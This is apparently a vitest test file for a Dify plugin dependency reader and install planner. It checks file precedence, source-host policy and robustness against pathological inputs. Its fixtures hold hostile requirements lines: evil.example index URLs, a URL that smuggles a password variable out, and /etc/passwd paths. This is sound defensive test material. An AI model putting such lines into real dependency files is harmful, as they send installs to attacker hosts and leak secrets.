import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, expect, test } from 'vitest';
import { indexArguments } from '../operator-index.ts';
import {
  admit,
  allows,
  ownSources,
  planInstall,
  pythonRanges,
  readDependencies,
  readRange,
  sourcePolicy,
} from './index.ts';
import { readRequirement } from './requirement.ts';
import { readRequirementsFile } from './requirements-file.ts';

const made: string[] = [];
afterEach(() => {
  for (const folder of made.splice(0)) rmSync(folder, { recursive: true, force: true });
});

function folderOf(files: Readonly<Record<string, string | Buffer>>): string {
  const folder = mkdtempSync(join(tmpdir(), 'dependencies-'));
  made.push(folder);
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), content);
  }
  return folder;
}

const facts = (files: Readonly<Record<string, string | Buffer>>) => readDependencies(folderOf(files), 'main');
const quiet = { mirror: false, ignoreLock: false };

/** `file: requirements` of what would be installed, or the class of failure. */
function plan(files: Readonly<Record<string, string | Buffer>>, flags = quiet): string {
  const found = planInstall(facts(files), flags);
  if ('failure' in found) return found.failure;
  if (found.kind !== 'requirements') return `${found.kind} of ${found.file}`;
  return `${found.file}: ${found.requirements.map((one) => one.text).join(', ')}`;
}

const project = (more = 'dependencies = ["dify_plugin>=0.9"]') => `[project]\nname = "x"\nversion = "1"\n${more}\n`;
const lock = (requires = '{ name = "dify-plugin", specifier = ">=0.9" }') =>
  `version = 1\nrequires-python = ">=3.13"\n[[package]]\nname = "x"\nsource = { virtual = "." }\n[package.metadata]\nrequires-dist = [${requires}]\n`;
const SDK = 'dify_plugin==0.9.0\n';

test('the file that says something decides, in upstream’s order', () => {
  expect(plan({})).toBe('no-dependency-file');
  expect(plan({ 'requirements.txt': SDK })).toBe('requirements.txt: dify_plugin==0.9.0');
  expect(plan({ 'requirements.txt': '# none\n' })).toBe('nothing of requirements.txt');
  expect(plan({ 'pyproject.toml': project() })).toBe('pyproject.toml: dify_plugin>=0.9');
  expect(plan({ 'pyproject.toml': project(), 'uv.lock': lock() })).toBe('lock of uv.lock');
  expect(plan({ 'pyproject.toml': project(), 'uv.lock': lock(), 'requirements.txt': SDK })).toBe('lock of uv.lock');
  expect(plan({ 'pyproject.toml': project(), 'uv.lock': lock() }, { ...quiet, ignoreLock: true })).toContain(
    'pyproject',
  );
  expect(plan({ 'pyproject.toml': project(), 'requirements.txt': 'idna\n' }, { ...quiet, mirror: true })).toBe(
    'requirements.txt: idna',
  );
});

test.each([
  ['empty', ''],
  ['settings of a linter', '[tool.ruff]\nline-length = 100\n'],
  ['settings of a formatter', '[tool.black]\nline-length = 100\n'],
  [
    'another tool’s project',
    '[tool.poetry]\nname = "x"\n[tool.poetry.dependencies]\npython = "^3.12"\ndify_plugin = "*"\n',
  ],
  ['an empty list', project('dependencies = []')],
  ['no list', project('')],
  ['a list without the SDK', project('dependencies = ["idna"]')],
  ['a list made by a build system', project('dynamic = ["dependencies"]')],
  ['dependencies that are no list', project('dependencies = "dify_plugin"')],
  ['a project that is no table', 'project = 3\n'],
  ['no TOML', 'not toml at all'],
])('requirements.txt beside a pyproject.toml with %s', (_, pyproject) => {
  expect(plan({ 'pyproject.toml': pyproject, 'requirements.txt': SDK })).toBe('requirements.txt: dify_plugin==0.9.0');
});

test('a lock file counts while it is the one of the pyproject.toml', () => {
  const locked = (pyproject: string, requires: string) =>
    plan({ 'pyproject.toml': pyproject, 'uv.lock': lock(requires) });
  expect(locked(project(), '{ name = "idna" }')).toBe('pyproject.toml: dify_plugin>=0.9');
  expect(locked(project(), '{ name = "dify-plugin", specifier = ">=0.8" }')).toContain('pyproject.toml');
  expect(
    locked(project('dependencies = ["Dify.Plugin (>=0.9, <1)"]'), '{ name = "dify-plugin", specifier = "<1,>=0.9" }'),
  ).toBe('lock of uv.lock');
  expect(plan({ 'pyproject.toml': project(), 'uv.lock': 'not toml' })).toBe('bad-lock');
  expect(plan({ 'pyproject.toml': project(), 'uv.lock': 'version = 1\n' })).toContain('pyproject.toml');
  expect(
    plan({ 'pyproject.toml': project('dependencies = []'), 'uv.lock': lock(''), 'requirements.txt': SDK }),
  ).toContain('requirements.txt');
});

test('dependencies that only another tool reads are said to be that, or read where they lie', () => {
  const poetry = '[tool.poetry]\nname="x"\n[tool.poetry.dependencies]\ndify_plugin = "*"\n';
  expect(plan({ 'pyproject.toml': poetry })).toBe('unreadable-dependencies');
  expect(plan({ 'pyproject.toml': project('dynamic = ["dependencies"]') })).toBe('unreadable-dependencies');
  const dynamic = `${project('dynamic = ["dependencies"]')}[tool.setuptools.dynamic]\ndependencies = { file = ["deps.txt"] }\n`;
  expect(plan({ 'pyproject.toml': dynamic, 'deps.txt': SDK })).toBe('requirements.txt: dify_plugin==0.9.0');
  expect(plan({ 'pyproject.toml': project('dependencies = []') })).toBe('nothing of pyproject.toml');
  expect(plan({ 'pyproject.toml': project(), 'requirements.txt': '-e .\nidna\n' }, { ...quiet, mirror: true })).toBe(
    'requirements.txt: idna, dify_plugin>=0.9',
  );
});

test('vendored wheels come first, whatever else is there', () => {
  const all = { 'vendor/wheels/a.whl': '', 'requirements.txt': 'a\n', 'pyproject.toml': project() };
  expect(plan({ ...all, 'vendor/requirements.txt': 'a==1\n' })).toBe('vendor/requirements.txt: a==1');
  expect(plan(all)).toBe('requirements.txt: a');
  expect(plan({ 'vendor/wheels/a.whl': '', 'pyproject.toml': project() })).toBe('pyproject.toml: dify_plugin>=0.9');
  expect(plan({ 'vendor/wheels/a.whl': '' })).toBe('no-dependency-file');
});

test('sources of a project are addresses of its requirements', () => {
  const sources = `${project('dependencies = ["a>=1 ; sys_platform == \'linux\'", "b", "c[x]", "d"]')}[tool.uv.sources]
a = { git = "https://git.example/a.git", tag = "v1", subdirectory = "s" }
B = { url = "https://files.example/b-1.whl" }
c = { path = "libs/c" }
d = { index = "own" }
[[tool.uv.index]]
name = "own"
url = "https://index.example/simple"
`;
  expect(plan({ 'pyproject.toml': sources })).toBe(
    "pyproject.toml: a @ git+https://git.example/a.git@v1#subdirectory=s ; sys_platform == 'linux', b @ https://files.example/b-1.whl, c[x], d",
  );
  const found = facts({ 'pyproject.toml': sources });
  expect(ownSources(found)).toEqual(['https://index.example/simple']);
  const planned = planInstall(found, quiet);
  const requirements = 'requirements' in planned ? planned.requirements : [];
  const admitted = (hosts: string[]) => admit(requirements, '/nowhere', sourcePolicy(hosts));
  expect(admitted([])).toEqual({
    lines: ['d'],
    refused: [
      { text: expect.stringContaining('git+https'), host: 'git.example' },
      { text: 'b @ https://files.example/b-1.whl', host: 'files.example' },
    ],
    ownBuilds: ['c[x]'],
  });
  expect(admitted(['GIT.example', '*.example']).refused).toEqual([]);
});

test('no line of a requirements file chooses whom this machine asks or what it tells', () => {
  const text = `--index-url https://evil.example/simple
--extra-index-url=https://user:pw@evil.example/more
-f https://evil.example/links
--trusted-host evil.example
--pre
--no-binary a
a==1 --hash=sha256:${'0'.repeat(64)} \\
    --hash=sha256:${'1'.repeat(64)}
b @ https://evil.example/\${UV_INDEX_NEXUS_PASSWORD}.whl
c --config-settings=x=y
-e git+ssh://git@evil.example/x.git#egg=x
./libs/own
../outside.whl
file:///etc/passwd
`;
  const found = readRequirementsFile('requirements.txt', () => ({ text }));
  expect(found.sources).toEqual([
    'https://evil.example/simple',
    'https://user:pw@evil.example/more',
    'https://evil.example/links',
  ]);
  expect(found.options).toEqual(['--pre', '--no-binary a']);
  expect(found.ignored).toEqual(['requirements.txt:4: --trusted-host evil.example']);
  expect(found.problems).toEqual([
    expect.stringContaining('requirements.txt:9: variables are not put into requirements'),
    expect.stringContaining('requirements.txt:10: option --config-settings=x=y'),
  ]);
  expect(admit(found.requirements, '/nowhere', sourcePolicy([]))).toEqual({
    lines: [`a==1 --hash=sha256:${'0'.repeat(64)} --hash=sha256:${'1'.repeat(64)}`],
    refused: [{ text: 'git+ssh://git@evil.example/x.git#egg=x', host: 'evil.example' }],
    ownBuilds: ['./libs/own', '../outside.whl', 'file:///etc/passwd'],
  });
  expect(indexArguments('https://mine/simple', found.sources, sourcePolicy([]))).toEqual({
    args: ['-i', 'https://mine/simple'],
    leftOut: found.sources,
  });
  expect(indexArguments(undefined, ['https://ok.example/s'], sourcePolicy(['ok.example'])).args).toEqual([
    '--extra-index-url',
    'https://ok.example/s',
  ]);
});

test('files are included within the package, as often and as deep as a person would', () => {
  const folder = folderOf({
    'requirements.txt': '-r more/a.txt\n-c pins.txt\n-r ../../etc/passwd\n-r requirements.txt\n',
    'more/a.txt': '-r b.txt\nidna\n',
    'more/b.txt': '\uFEFFrequests # why\n',
    'pins.txt': 'idna<4\n',
  });
  const found = readDependencies(folder, 'main').requirements;
  expect(found?.requirements.map((one) => one.text)).toEqual(['idna', 'requests']);
  expect(found?.constraints.map((one) => one.text)).toEqual(['idna<4']);
  expect(found?.problems).toEqual([expect.stringContaining('lies outside the package')]);
});

test('a locked requirement has the hashes of all its wheels', () => {
  const hashes = Array.from({ length: 300 }, (_, n) => `--hash=sha256:${n.toString(16).padStart(64, '0')}`);
  const found = readRequirement(`numpy==2.0.0 ; python_version >= '3.12' ${hashes.join('     ')}`);
  expect(found).toMatchObject({ name: 'numpy', specifier: '==2.0.0', marker: "python_version >= '3.12'" });
  expect(typeof found === 'string' ? found : found.text.split(' --hash=')).toHaveLength(301);
  expect(readRequirement(`a${'x'.repeat(3000)}`)).toContain('characters');
  expect(readRequirement(`a ${hashes.concat(...Array.from({ length: 9 }, () => hashes)).join(' ')}`)).toContain(
    'options',
  );
});

test('a wheel that the package carries is taken from there', () => {
  const folder = folderOf({ 'libs/carried-1.0-py3-none-any.whl': 'x' });
  const requirement = readRequirement('./libs/carried-1.0-py3-none-any.whl');
  if (typeof requirement === 'string') return expect.fail(requirement);
  expect(admit([requirement], folder, sourcePolicy([])).lines).toEqual([
    join(folder, 'libs/carried-1.0-py3-none-any.whl'),
  ]);
});

test('what calls itself a Python range is read as far as it is one', () => {
  const allowed = (text: string) => [10, 11, 12, 13, 14].filter((minor) => allows(readRange(text), minor));
  expect(allowed('>=3.12')).toEqual([12, 13, 14]);
  expect(allowed('>=3.11,<3.13')).toEqual([11, 12]);
  expect(allowed('<3.13, >3.11')).toEqual([11, 12]);
  expect(allowed('==3.12.*')).toEqual([12]);
  expect(allowed('!=3.12.*')).toEqual([10, 11, 13, 14]);
  expect(allowed('~=3.12.1')).toEqual([12]);
  expect(allowed('~=3.12')).toEqual([12, 13, 14]);
  expect(allowed('>=3.12.0,<=3.13')).toEqual([12, 13]);
  expect(allowed('no version')).toEqual([10, 11, 12, 13, 14]);
  expect(allowed(`>=3.${' '.repeat(100_000)}`)).toEqual([10, 11, 12, 13, 14]);
  const locked = facts({
    'pyproject.toml': project('requires-python = ">=3.12"\ndependencies = ["dify_plugin>=0.9"]'),
    'uv.lock': lock(),
  });
  const planned = planInstall(locked, quiet);
  expect('failure' in planned ? [] : pythonRanges(locked, planned)).toEqual(['>=3.12', '>=3.13']);
});

/** Each is what made a pattern or a parser work in squares, or a reader fall over. */
const HOSTILE: Readonly<Record<string, Readonly<Record<string, string | Buffer>>>> = {
  'blank lines before requires-python': { 'pyproject.toml': `${'\n'.repeat(200_000)}requires-python` },
  'white space in a value': { 'pyproject.toml': `[project]\nrequires-python = "${' '.repeat(200_000)}>"\n` },
  'arrays in arrays': { 'pyproject.toml': `a = ${'['.repeat(100_000)}` },
  'keys in keys': { 'pyproject.toml': `${'a.'.repeat(100_000)}b = 1\n` },
  'inherited names': { 'pyproject.toml': '[__proto__]\nx = 1\n[project.constructor]\nprototype = 1\n' },
  'a file that is too large': { 'pyproject.toml': '#'.repeat(300_000) },
  'a lock that is too large': { 'pyproject.toml': project(), 'uv.lock': Buffer.alloc(9_000_000, '#') },
  'spaces in a requirement': { 'requirements.txt': `a${' '.repeat(500_000)}@` },
  'spaces before a comment': { 'requirements.txt': `${'a \t'.repeat(100_000)}x` },
  'lines without end': { 'requirements.txt': 'a\\\n'.repeat(100_000) },
  'many lines': { 'requirements.txt': 'a\n'.repeat(100_000) },
  brackets: { 'requirements.txt': `a${'['.repeat(500_000)}` },
  separators: { 'requirements.txt': `a${'-_.'.repeat(100_000)}!` },
  'binary noise': { 'requirements.txt': Buffer.alloc(100_000, 0xff), 'pyproject.toml': Buffer.alloc(1000, 0) },
  'a file that includes itself in many ways': {
    'requirements.txt': Array.from({ length: 5000 }, (_, n) => `-r ${'./'.repeat(n)}requirements.txt`).join('\n'),
  },
};

test.each(Object.entries(HOSTILE))('%s is read or refused, not suffered', (_, files) => {
  const found = facts(files);
  const planned = planInstall(found, quiet);
  expect(JSON.stringify(planned).length).toBeLessThan(1_000_000);
});

test('a folder in a file’s place is named', () => {
  const folder = folderOf({ 'pyproject.toml/x': '' });
  const planned = planInstall(readDependencies(folder, 'main'), quiet);
  expect(planned).toMatchObject({ failure: 'bad-requirement', text: expect.stringContaining('pyproject.toml') });
});
